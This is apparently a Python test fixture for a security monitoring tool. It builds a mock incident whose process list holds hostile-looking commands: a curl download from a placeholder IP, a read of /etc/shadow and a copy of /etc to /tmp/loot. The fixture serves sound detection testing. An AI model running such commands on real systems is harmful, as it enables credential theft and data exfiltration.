"""An incident for tests: below a shell, a download, a read of /etc/shadow, and a copy of /etc."""

from lanner.recorder.context import TimelineEntry
from lanner.recorder.tree.activity import Activity, Actor, activity_maker
from processor.output.redaction import Redaction
from schemas.alert import Alert
from schemas.batch import EventBatch, Process
from tests.unit.alerts import alert
from tests.unit.processor.batches import INIT, TIME, batch_of

MS = 1_000_000
SECOND = 1000 * MS
TRIGGER = 5
"""Number of the event of the alert."""


def process(pid: int, command: str, parent: int, **facts: object) -> Process:
    """Return a process of alice's."""
    name, *arguments = command.split(" ")
    given = {"user": "alice", "start_time": TIME + pid, **facts}
    return Process(pid=pid, name=name, exe=name, args=tuple(arguments), parent=parent, **given)  # type: ignore[arg-type]


def incident() -> EventBatch:
    """Return its events."""
    processes = [
        INIT,
        process(800, "sshd", 0, user="root"),
        process(900, "bash", 1),
        process(901, "curl -s http://198.51.100.7/x", 2),
        process(902, "cat /etc/shadow", 2),
        process(903, "cp -r /etc /tmp/loot", 2),
        process(700, "cron", 0, user="root"),
    ]
    download = {"process": 3, "remote_ip": "198.51.100.7", "remote_port": 80, "fd_name": "10.0.0.1:4->198.51.100.7:80"}
    events: list[dict[str, object]] = [
        {"type": "execve", "process": 3, "time": TIME},
        {"type": "connect", "time": TIME + MS, **download},
        {"type": "procexit", "process": 3, "time": TIME + 90 * MS, "args": {"ret": "0", "sig": "0"}},
        {"type": "execve", "process": 4, "time": TIME + 100 * MS},
        {"type": "openat", "process": 4, "time": TIME + 101 * MS, "fd_name": "/etc/shadow"},
        {"type": "openat", "process": 6, "time": TIME + 102 * MS, "fd_name": "/etc/crontab"},
        {"type": "execve", "process": 5, "time": TIME + 200 * MS},
    ]
    copied = [{"type": "openat", "process": 5, "fd_name": f"/etc/file{number % 165}"} for number in range(170)]
    events += [{**each, "time": TIME + (201 + number) * MS} for number, each in enumerate(copied)]
    return batch_of(*events, processes=processes)


def activities(batch: EventBatch) -> list[Activity]:
    """Return the activities of a batch, with the default redaction."""
    return list(map(activity_maker(batch, Redaction()), range(batch.count)))


def entries(batch: EventBatch, trigger: int | None = TRIGGER) -> list[TimelineEntry[Activity]]:
    """Return the timeline of a batch; trigger: the number of the event that raised the alert."""
    return [TimelineEntry(each, each.number == str(trigger)) for each in activities(batch)]


def of_event(batch: EventBatch, number: int, **facts: object) -> Alert:
    """Return an alert that an event raised."""
    time = batch.columns["time"][number - batch.first_number]
    return alert(time=time, event={"evt.num": number, "proc.pid": 902}, **facts)


def actor(pid: int, start: int | None = 1, **facts: object) -> Actor:
    """Return a process as an event shows it."""
    given = {"host": "host-1", "name": "sh", "command": "sh", "user": "root", "container": "", **facts}
    return Actor(pid=pid, start=start, **given)  # type: ignore[arg-type]


def activity(time: int, *line: Actor, verb: str = "open", target: str = "/x", error: str = "") -> Activity:
    """Return an event of a process."""
    return Activity(time, str(time), line or (actor(1),), verb, target, error)
